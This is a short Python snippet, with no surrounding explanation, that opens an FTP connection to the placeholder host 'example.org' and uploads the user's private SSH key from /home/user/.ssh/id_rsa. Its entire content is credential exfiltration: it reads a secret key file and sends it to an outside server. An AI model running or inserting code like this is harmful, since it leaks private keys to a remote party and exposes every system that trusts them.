from ftplib import FTP

with FTP("example.org") as server:
    server.storbinary("STOR keys", open("/home/user/.ssh/id_rsa", "rb"))
